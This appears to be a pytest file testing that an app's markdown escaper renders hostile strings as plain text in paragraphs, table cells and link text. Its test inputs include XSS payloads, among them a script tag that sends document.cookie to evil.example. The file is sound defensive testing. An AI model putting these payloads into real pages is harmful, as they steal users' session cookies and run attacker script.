"""space.text.plain, the app's one escaper, through a CommonMark renderer (markdown-it, which
Gradio installs): the hostile names and reasons the other tests use come out as the text they
are, with no markup, in a paragraph, a table cell and a link's text."""

from __future__ import annotations

import html

import pytest
from markdown_it import MarkdownIt

from space.text import plain

HOSTILE = [
    '<img src=x onerror="alert(1)"> | **bold** [link](javascript:alert(1))',
    "![x](https://evil.example/t.png) <b>B</b>",
    "<script>fetch('//evil.example/?'+document.cookie)</script>",
    "`code` _under_ ~~struck~~ # heading + list",
    "&lt;b&gt;entity&lt;/b&gt; &amp; \\*escaped\\*",
    "a | b | c\n|---|",
]


def render(markdown: str) -> str:
    return MarkdownIt("commonmark").enable("table").enable("strikethrough").render(markdown)


def text_of(rendered: str, opening: str, tag: str) -> str:
    """The text inside the first element of ``rendered`` that opens with ``opening``,
    entities decoded."""
    inner = rendered.split(opening, 1)[1].split(f"</{tag}>", 1)[0]
    assert "<" not in inner, rendered  # no element inside: the text only
    return html.unescape(inner)


@pytest.mark.parametrize("text", HOSTILE)
def test_plain_text_renders_as_itself_and_nothing_else(text):
    one_line = text.replace("\n", " ")
    assert text_of(render(plain(one_line)), "<p>", "p") == one_line
    table = render(f"| name | reason |\n|---|---|\n| {plain(one_line)} | ok |")
    assert text_of(table.split("<tbody>")[1], "<td>", "td") == one_line
    link = render(f"[{plain(one_line)}](https://huggingface.co/org/name)")
    assert text_of(link, '<a href="https://huggingface.co/org/name">', "a") == one_line


def test_without_the_escaper_the_same_text_is_markup():
    # what plain() prevents: the renderer turns these into elements
    assert "<img" in render("![x](https://evil.example/t.png)") and "<strong>" in render("**bold**")
